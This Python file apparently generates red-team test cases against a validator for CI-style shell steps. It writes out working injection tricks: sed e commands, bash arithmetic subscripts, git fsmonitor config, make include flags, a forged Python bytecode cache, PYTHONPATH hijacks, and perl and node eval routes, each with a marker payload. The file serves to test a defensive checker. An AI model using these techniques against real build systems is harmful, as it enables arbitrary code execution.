# Round thirty-nine attacks (exec'd by gen_attacks.py; uses A, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r39-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r39-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}

# ================================================================== round 39 attacks
import importlib.util as _ilu, marshal as _marshal
TXT = {"type": "string", "maxLength": 300}
NOTE = {"type": "string", "maxLength": 300, "description": "one line of text"}
PAY = "x[$(%s >&2)]" % SHP                         # a caller's text that bash arithmetic runs
R38S = ("Round 37/38: sed scripts are read command by command and e is found after any address; sed -f FILE is "
        "not literal. ")
R38A = "Round 38: an indexed array literal's [KEY] (slots=([$k]=x), declare -a) is arithmetic. "
R38E = ("Round 38: MAKEFILES, GIT_DIR, GIT_TEMPLATE_DIR, PYTHONUSERBASE, PGSERVICEFILE and PGSYSCONFDIR select code; "
        "round 37: the env: place check applies to variables that name where programs find settings or code "
        "(..._HOME, ...CONFIG..., ...RC, XDG_..., search paths, the code-selecting variables). ")
R38P = ("Round 36/37/38: a place is read with // and /./ collapsed and .. resolved; /run/shm, /run/lock, /run/user, "
        "/var/lock and /var/run/shm are writable places. ")
R38L = ("Round 38: a language's program given a run-directory file as an operand reads caller data from it, and is "
        "read for its language's ways to run text (perl: eval, system, backticks, 2-argument open, <>, readline(ARGV); "
        "node: eval, Function, require, child_process, computed global names, process, this, Reflect, module). ")
MOD = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536,
       "description": "the module file"}

# ---------------------------------------------------------------- sed: other spellings of the script option / wrappers
R("sed-option-cluster-attached", "sed-script-option-spelling",
  "Print a note.", {"note": NOTE},
  r"""
  printf '%s\n' "$ARG_note" | sed -Ee'/./e'
  """, {"note": SHP},
  R38S + "The script is attached to -e inside a cluster of short options (-Ee'/./e' is -E -e /./e); a reader that "
  "takes the first word not starting with - as the script finds none, and the caller's line runs.")

R("sed-under-stdbuf", "wrapped-interpreter",
  "Print a note line-buffered.", {"note": NOTE},
  r"""
  printf '%s\n' "$ARG_note" | stdbuf -oL sed '/./e'
  """, {"note": SHP},
  R38S + "The sed program is stdbuf's command operand (stdbuf -oL runs sed); if the wrapper's operands are judged "
  "by stdbuf's grammar and not as sed's program, /./e is not seen, and the caller's line runs.")

R("sed-under-ionice", "wrapped-interpreter",
  "Print a note at idle priority.", {"note": NOTE},
  r"""
  printf '%s\n' "$ARG_note" | ionice -c 3 sed '/./e'
  """, {"note": SHP},
  R38S + "ionice -c 3 runs sed as its command operand; the sed program /./e runs the caller's line.")

# ---------------------------------------------------------------- arithmetic subscripts: other declarers and scopes
R("typeset-compound-subscript", "array-literal-declarer",
  "Reserve a slot.", {"slot": TXT},
  r"""
  typeset -a slots=([$ARG_slot]=reserved)
  echo "${#slots[@]} slot reserved"
  """, {"slot": PAY},
  R38A + "typeset is declare's other name; its compound assignment's [KEY] is evaluated as arithmetic.")

R("readonly-compound-subscript", "array-literal-declarer",
  "Reserve a slot.", {"slot": TXT},
  r"""
  readonly -a slots=([$ARG_slot]=reserved)
  echo "${#slots[@]} slot reserved"
  """, {"slot": PAY},
  R38A + "readonly -a takes a compound assignment too; the [KEY] is arithmetic and runs the caller's $(...).")

R("local-compound-subscript", "array-literal-declarer",
  "Reserve a slot.", {"slot": TXT},
  r"""
  reserve() {
    local -a slots=([$ARG_slot]=reserved)
    echo "${#slots[@]} slot reserved"
  }
  reserve
  """, {"slot": PAY},
  R38A + "local -a in a function takes the same compound assignment; the [KEY] is arithmetic.")

R("assoc-declared-in-function", "assoc-scope",
  "Look up a region's endpoint.", {"region": TXT},
  r"""
  load_map() {
    declare -A endpoints=([eu]=https://eu.example.com [us]=https://us.example.com)
  }
  load_map
  echo "endpoint: ${endpoints[$ARG_region]:-unknown}"
  """, {"region": PAY},
  "Round 20: ${map[$k]} of an associative array holds what the map holds, whatever the key (bash expands the key "
  "once). But declare -A inside a function makes a local: at the top level endpoints is no associative array, so "
  "bash reads ${endpoints[KEY]} as an indexed element and evaluates KEY as arithmetic.")

R("assoc-after-unset", "assoc-scope",
  "Count a label.", {"label": TXT},
  r"""
  declare -A seen=([build]=1 [test]=1)
  echo "known labels: ${!seen[*]}"
  unset seen
  seen[$ARG_label]=1
  echo "now ${#seen[@]} label"
  """, {"label": PAY},
  "Round 20/21: the key of an associative array is a string. unset seen removes the variable with its -A "
  "attribute; the next seen[KEY]= makes an indexed array and evaluates KEY as arithmetic.")

# ---------------------------------------------------------------- step env: code-selecting names not yet listed
COMMONDIR = tgz({"HEAD": (0o644, "ref: refs/heads/main\n"),
                 "config": (0o644, '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "%s; false"\n'
                            % SHP.replace('"', '\\"')),
                 "objects/info/.keep": (0o644, ""), "refs/heads/.keep": (0o644, "")})
X("step-env-git-common-dir", "step-env-unlisted-name",
  "Show the status against a shared repository store.", {"store": ATT_TGZ},
  [("unpack", r"""
  mkdir -p /dev/shm/r39-app/common.git
  tar -xzf "$ARG_store" -C /dev/shm/r39-app/common.git
  """, None),
   ("status", r"""
  git status --short | head -20
  """, {"env": {"GIT_COMMON_DIR": "/dev/shm/r39-app/common.git"}})], {"store": COMMONDIR},
  R38E + "GIT_COMMON_DIR (git-worktree's shared directory) names where git reads its config, like GIT_DIR, but is "
  "not in the list and matches no pattern; the caller's config there sets core.fsmonitor, which git status runs.")

X("step-env-makeflags-include-dir", "step-env-unlisted-name",
  "Build report with the caller's overrides.", {"note": NOTE},
  [("save", r"""
  mkdir -p /dev/shm/r39-app
  printf '%s\n' "$ARG_note" > /dev/shm/r39-app/local.mk
  """, None),
   ("report", r"""
  make -s report
  """, {"env": {"MAKEFLAGS": "-I/dev/shm/r39-app"}})],
  {"note": "X := $(shell echo HARBOR-PWNED-$$((6*7)) | tee -a /tmp/harbor-r39-pwned $$HARBOR_RUN_DIR/pwned)"},
  R38E + "MAKEFLAGS is read by make as options: -I adds an include folder, where the project's "
  "'-include local.mk' (absent from the working folder) is found; the name matches no pattern and its value is "
  "an option, not a path.")

X("step-env-makeflags-long", "step-env-unlisted-name",
  "Build report with the caller's overrides.", {"note": NOTE},
  [("save", r"""
  mkdir -p /dev/shm/r39-app
  printf '%s\n' "$ARG_note" > /dev/shm/r39-app/local.mk
  """, None),
   ("report", r"""
  make -s report
  """, {"env": {"GNUMAKEFLAGS": "--include-dir=/dev/shm/r39-app"}})],
  {"note": "X := $(shell echo HARBOR-PWNED-$$((6*7)) | tee -a /tmp/harbor-r39-pwned $$HARBOR_RUN_DIR/pwned)"},
  R38E + "GNUMAKEFLAGS is GNU make's own MAKEFLAGS; --include-dir=/dev/shm/r39-app makes '-include local.mk' read "
  "the caller's file.")

_code = compile("import os\nos.system(%r)\n" % SHP, "/usr/lib/python3.11/csv.py", "exec")
_pyc = _ilu.MAGIC_NUMBER + (1).to_bytes(4, "little") + b"\0" * 8 + _marshal.dumps(_code)   # unchecked hash-based pyc
_bio = io.BytesIO()
with tarfile.open(fileobj=_bio, mode="w:gz") as _t:
    _ti = tarfile.TarInfo("usr/lib/python3.11/csv.cpython-311.pyc")
    _ti.size, _ti.mode, _ti.mtime = len(_pyc), 0o644, 1700000000
    _t.addfile(_ti, io.BytesIO(_pyc))
PYCTGZ = base64.b64encode(_bio.getvalue()).decode()
X("step-env-pycache-prefix", "step-env-unlisted-name",
  "Restore a bytecode cache and run the report.", {"cache": ATT_TGZ},
  [("restore", r"""
  mkdir -p /dev/shm/r39-app/pycache
  tar -xzf "$ARG_cache" -C /dev/shm/r39-app/pycache
  """, None),
   ("report", r"""
  python3 -c 'import csv; print(len(csv.list_dialects()), "dialects")'
  """, {"env": {"PYTHONPYCACHEPREFIX": "/dev/shm/r39-app/pycache"}})], {"cache": PYCTGZ},
  R38E + "PYTHONPYCACHEPREFIX names the tree python loads .pyc files from (a PREFIX, not a PATH, HOME or CONFIG); "
  "an unchecked hash-based .pyc there is loaded for csv without looking at the source, so the caller's code runs.")

X("step-env-makefiles-list", "step-env-list-separator",
  "Build report with the caller's notes.", {"note": NOTE},
  [("save", r"""
  mkdir -p /dev/shm/r39-app
  printf '%s\n' "$ARG_note" > /dev/shm/r39-app/notes.mk
  """, None),
   ("report", r"""
  make -s report
  """, {"env": {"MAKEFILES": "/dev/null /dev/shm/r39-app/notes.mk"}})],
  {"note": "X := $(shell echo HARBOR-PWNED-$$((6*7)) | tee -a /tmp/harbor-r39-pwned $$HARBOR_RUN_DIR/pwned)"},
  R38E + "MAKEFILES is a list separated by blanks, not ':'; read as one place the value starts with /dev/null (a "
  "harmless device), but make reads each word, the second the caller's file.")

# ---------------------------------------------------------------- step env: other spellings of a writable place
PYJSON39 = "import os\nos.system('%s')\n" % SHP
for _n, _place, _why in [
    ("step-env-double-slash-root", "//dev/shm/r39-app/vendor",
     "A path that starts with exactly two slashes is kept as is by POSIX normalisation (posixpath.normpath keeps "
     "'//'), so //dev/shm is no /dev/shm to a prefix test; the kernel reads it as /dev/shm."),
    ("step-env-proc-self-root", "/proc/self/root/dev/shm/r39-app/vendor",
     "/proc/self/root is the process's root folder, a link no textual collapse resolves; "
     "/proc/self/root/dev/shm is /dev/shm."),
    ("step-env-var-tmp", "/var/tmp/r39-app/vendor",
     "/var/tmp is world-writable with the sticky bit like /tmp, but is not among the writable places the notes list "
     "(/tmp, /dev/shm, /run/shm, /run/lock, /run/user, /var/lock)."),
]:
    _mk = "/var/tmp/r39-app/vendor" if "var-tmp" in _n else "/dev/shm/r39-app/vendor"
    X(_n, "step-env-place-spelling",
      "Run the report with vendored modules.", {"module": MOD},
      [("vendor", """
      mkdir -p %s
      cp "$ARG_module" %s/json.py
      """ % (_mk, _mk), None),
       ("report", r"""
      python3 -c 'import json; print(json.dumps({"ok": True}))'
      """, {"env": {"PYTHONPATH": _place}})], {"module": b64(PYJSON39)},
      R38P + _why + " The first step put the caller's json.py there, which python imports first.")

# ---------------------------------------------------------------- a language's program reading a run-directory file
X("perl-subst-double-e", "language-run-text-unlisted",
  "Normalise the lines of a note.", {"note": NOTE},
  [("save", r"""
  printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/note.txt"
  """, None),
   ("show", r"""
  perl -ne 's/^\s*(.*?)\s*$/$1/ee; print' "$HARBOR_RUN_DIR/note.txt"
  """, None)], {"note": "system(q{%s})" % SHP},
  R38L + "s///ee evaluates the replacement's value as perl code: no eval, system or backtick in the program's text.")

X("perl-readpipe", "language-run-text-unlisted",
  "Show the lines of a note.", {"note": NOTE},
  [("save", r"""
  printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/note.txt"
  """, None),
   ("show", r"""
  perl -ne 'chomp; print readpipe($_)' "$HARBOR_RUN_DIR/note.txt"
  """, None)], {"note": SHP},
  R38L + "readpipe EXPR is the function form of backticks (qx): it runs EXPR, the caller's line, as a command.")

X("node-constructor-constructor", "language-run-text-unlisted",
  "Evaluate a formula from a note.", {"note": NOTE},
  [("save", r"""
  printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/note.txt"
  """, None),
   ("show", r"""
  node -e 'const fs = require("fs"); const t = fs.readFileSync(process.argv[1], "utf8").trim(); console.log([].map.constructor(t)())' "$HARBOR_RUN_DIR/note.txt"
  """, None)], {"note": "return process.getBuiltinModule('child_process').execSync('%s >&2').toString()" % SHP},
  R38L + "[].map.constructor is Function, reached by a property without naming Function, eval, globalThis or "
  "Reflect; it compiles the caller's line (which reaches child_process by process.getBuiltinModule).")

X("node-dynamic-import-data-url", "language-run-text-unlisted",
  "Load a plugin named in a note.", {"note": NOTE},
  [("save", r"""
  printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/note.txt"
  """, None),
   ("show", r"""
  node -e 'const fs = require("fs"); import(fs.readFileSync(process.argv[1], "utf8").trim()).then(m => console.log(Object.keys(m)))' "$HARBOR_RUN_DIR/note.txt"
  """, None)],
  {"note": "data:text/javascript,import{execSync}from'child_process';console.log(String(execSync('%s')))" % SHP},
  R38L + "import() is an operator, not a function named require or eval; given a data: URL it runs the caller's "
  "text as an ES module.")

# ---------------------------------------------------------------- classes no note mentions
R("prompt-transform", "parameter-transform-runs",
  "Show a banner with the caller's title.", {"title": TXT},
  r"""
  banner="== $ARG_title =="
  echo "${banner@P}"
  """, {"title": "$(%s)" % SHP},
  "Rule 3 lists what ${x@E} and ${x^^} do to a value (any text), but ${x@P} expands the value as a prompt string: "
  "bash performs command substitution in it (promptvars is on by default), so the caller's $(...) runs.")

X("hash-p-caller-file", "run-file-by-other-name",
  "Run the caller's formatter over the notes.", {"fmt": MOD},
  [("fmt", r"""
  mkdir -p "$HARBOR_RUN_DIR/bin"
  cp "$ARG_fmt" "$HARBOR_RUN_DIR/bin/fmt-notes"
  chmod +x "$HARBOR_RUN_DIR/bin/fmt-notes"
  hash -p "$HARBOR_RUN_DIR/bin/fmt-notes" column
  column -t < README.md | head -5
  """, None)], {"fmt": b64("#!/bin/sh\n" + SHP + "\n")},
  "Rule 7 refuses a file of the run directory run as code (source F, . F, bash F, ./F, python3 F). hash -p FILE "
  "NAME binds the command word column to the caller's file, so the later column (a program with a grammar, given "
  "only the author's words) runs it.")

X("run-parts-caller-folder", "run-file-by-other-name",
  "Run the caller's check scripts.", {"checks": ATT_TGZ},
  [("unpack", r"""
  mkdir -p "$HARBOR_RUN_DIR/checks.d"
  tar -xzf "$ARG_checks" -C "$HARBOR_RUN_DIR/checks.d"
  """, None),
   ("run", r"""
  run-parts --verbose "$HARBOR_RUN_DIR/checks.d"
  """, None)], {"checks": tgz({"10-check": (0o755, "#!/bin/sh\n" + SHP + "\n")})},
  "run-parts DIR runs every executable file of DIR; it gets only the author's words (a run-directory path), so no "
  "caller data reaches it, but the folder holds the caller's scripts. Rule 7 names source, ., bash, ./F and "
  "python3 F as ways a file is run, not run-parts.")

X("make-include-dir-option", "code-folder-option-no-grammar",
  "Build report with the caller's overrides.", {"note": NOTE},
  [("save", r"""
  printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/local.mk"
  """, None),
   ("report", r"""
  make -s -I "$HARBOR_RUN_DIR" report
  """, None)],
  {"note": "X := $(shell echo HARBOR-PWNED-$$((6*7)) | tee -a /tmp/harbor-r39-pwned $$HARBOR_RUN_DIR/pwned)"},
  "make gets only the author's words (-s, -I and the run directory), so H012 has no caller data to refuse; but -I "
  "names where the project's '-include local.mk' is found, and the run directory holds the caller's local.mk.")

X("git-include-path-config", "code-folder-option-no-grammar",
  "Show the status with a shared config.", {"cfg": ATT_TXT},
  [("save", r"""
  cp "$ARG_cfg" "$HARBOR_RUN_DIR/shared.gitconfig"
  """, None),
   ("status", r"""
  git -c include.path="$HARBOR_RUN_DIR/shared.gitconfig" status --short | head -5
  """, None)],
  {"cfg": b64('[core]\n\tfsmonitor = "%s; false"\n' % SHP.replace('"', '\\"'))},
  "The -c value is the author's text (include.path and a run-directory path): no caller data is given to git -c. "
  "But include.path makes git read the named file as config, and the caller's file sets core.fsmonitor.")
